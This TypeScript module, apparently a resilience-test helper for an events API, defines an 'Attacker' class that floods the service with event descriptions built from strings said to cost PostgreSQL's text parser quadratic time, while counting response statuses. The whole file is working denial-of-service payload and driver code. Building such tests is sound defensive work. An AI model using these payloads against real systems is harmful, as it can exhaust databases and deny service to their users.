import { setTimeout as sleep } from 'node:timers/promises';
import { Agent, request } from 'undici';

/** Texts that cost PostgreSQL's text parser quadratic time, as long as a description may be. */
const WORST = ['_a', 'a_', '1_', '/~', 'x-1.2.3-', '<!--', 'a@'].map((text) =>
  text.repeat(Math.floor(20_000 / text.length)),
);

/** A user who creates events of the worst texts at an even pace, and does not wait for the answers. */
export class Attacker {
  private readonly statuses: Record<string, number> = {};
  private readonly stopping = new AbortController();
  private readonly agent = new Agent();
  private readonly running: Promise<void>;

  /** @param rate requests a minute */
  constructor(
    private readonly url: string,
    private readonly token: string,
    rate: number,
  ) {
    this.running = this.run(60_000 / rate);
  }

  /** Ends the attack when all is answered. @returns how often which status was answered */
  async stop(): Promise<Record<string, number>> {
    this.stopping.abort();
    await this.running;
    await this.agent.close();
    return this.statuses;
  }

  private async run(every: number): Promise<void> {
    const { signal } = this.stopping;
    const start = performance.now();
    const sent: Promise<void>[] = [];
    while (!signal.aborted) {
      sent.push(this.count(this.send(WORST[sent.length % WORST.length]!)));
      const wait = start + sent.length * every - performance.now();
      await sleep(Math.max(0, wait), undefined, { signal }).catch(() => {});
    }
    await Promise.all(sent);
  }

  private async count(answer: Promise<number>): Promise<void> {
    const status = await answer.catch(() => 'no answer');
    this.statuses[status] = (this.statuses[status] ?? 0) + 1;
  }

  private async send(description: string): Promise<number> {
    const { statusCode, body } = await request(`${this.url}/events`, {
      method: 'POST',
      dispatcher: this.agent,
      headers: { authorization: `Bearer ${this.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        ...{ title: 'Worst', description, type: 'EVENT', location: { name: 'Anywhere' } },
        startAt: '2031-03-01T18:00:00.000Z',
      }),
    });
    await body.dump();
    return statusCode;
  }
}
